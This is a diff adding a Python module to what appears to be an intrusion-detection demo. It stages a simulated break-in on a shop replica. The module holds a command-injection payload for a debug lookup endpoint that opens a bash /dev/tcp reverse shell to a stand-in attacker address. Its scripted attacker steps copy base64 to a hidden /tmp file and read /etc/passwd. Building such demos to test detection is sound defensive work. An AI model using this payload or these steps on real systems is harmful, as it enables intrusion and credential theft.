@@ -1,0 +1,76 @@
+"""The break-in: one HTTP request through the hole gives a shell on a socket, and somebody types into it.
+
+Both ends are in this machine: the attacker's address is a documentation address that exists only in the demo's network.
+"""
+
+import contextlib
+import socket
+import threading
+import time
+from collections.abc import Callable
+
+from harness import Replica, World
+
+from demo.shop import get
+
+__all__ = ["ADDRESS", "PORT", "STEPS", "AttackError", "attack"]
+
+ADDRESS, PORT = "203.0.113.9", 4444
+LOOKUP = f"db-0; bash -c 'exec 3<>/dev/tcp/{ADDRESS}/{PORT}; exec sh <&3 >&3 2>&3'"
+STEPS = (
+    ("id", "asks who it is"),
+    ("uname -a", "asks where it is"),
+    ("cp /usr/bin/base64 /tmp/.cache && /tmp/.cache /etc/passwd", "brings a tool of its own and reads the users with it"),
+)
+TYPING_S = 0.7
+"""Pause of a person at a keyboard between two commands."""
+
+
+class AttackError(RuntimeError):
+    """The break-in itself did not work: the demo is broken, not the detection."""
+
+
+def attack(world: World, replica: Replica, tell: Callable[[str], None]) -> None:
+    """Break into one replica, step by step; return when the attacker has left.
+
+    Raises:
+        AttackError: no shell came back, or a step gave no answer.
+    """
+    with world.network.listen(ADDRESS, PORT) as listener:
+        listener.settimeout(10)
+        tell(f"GET http://{replica.ip}:8080/debug/lookup?name={LOOKUP}")
+        request = threading.Thread(target=_request, args=(world, replica), daemon=True)
+        request.start()
+        try:
+            shell, (address, _) = listener.accept()
+        except OSError as error:
+            raise AttackError(f"no shell came back from {replica.name}: {error}") from None
+        with shell:
+            tell(f"a shell of {replica.name} ({address}) is on the attacker's socket {ADDRESS}:{PORT}")
+            shell.settimeout(5)
+            for command, meaning in STEPS:
+                time.sleep(TYPING_S)
+                tell(f"$ {command}   # {meaning}: {_type(shell, command)}")
+            shell.sendall(b"exit\n")
+        request.join(10)
+
+
+def _request(world: World, replica: Replica) -> None:
+    with contextlib.suppress(OSError):
+        get(world, replica, f"/debug/lookup?name={LOOKUP}", timeout=30)
+
+
+def _type(shell: socket.socket, command: str) -> str:
+    end = "end-of-answer"
+    shell.sendall(f"{command}; echo {end}\n".encode())
+    answer = ""
+    while end not in answer:
+        try:
+            piece = shell.recv(4096).decode(errors="replace")
+        except OSError as error:
+            raise AttackError(f"{command!r} was not answered: {error}") from None
+        if not piece:
+            raise AttackError(f"the shell ended at {command!r}; it had said {answer!r}")
+        answer += piece
+    first = answer.strip().splitlines()[0]
+    return first if len(first) <= 60 else first[:57] + "…"
